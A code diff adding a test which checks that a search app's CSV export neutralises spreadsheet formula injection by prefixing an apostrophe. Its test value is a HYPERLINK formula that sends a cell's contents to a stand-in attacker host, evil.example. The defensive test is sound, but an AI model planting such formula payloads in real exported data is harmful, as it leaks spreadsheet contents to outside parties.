@@ -83,6 +83,16 @@ def test_csv_and_json_exports(client: Client, archive) -> None:
     assert body["total"] == 5 and len(body["results"]) == 5
 
 
+def test_csv_export_cells_do_not_open_as_formulas(client: Client, archive) -> None:
+    """Names and texts come from letters (untrusted); a spreadsheet must show them, not run them."""
+    archive.company.name = '=HYPERLINK("http://evil.example/?"&A1,"Facebook")'
+    archive.company.save()
+    response = client.get("/search/", {"q": "tax", "type": "answer", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert {r["company"] for r in rows} == {"'" + archive.company.name}
+    assert rows[0]["snippet"][0].isalpha()  # ordinary text is left as it is
+
+
 def test_bad_filter_value_is_a_400_page_not_a_500(client: Client, archive) -> None:
     response = client.get("/search/", {"q": "tax", "year": "last year"})
     assert response.status_code == 400 and b"could not be read" in response.content
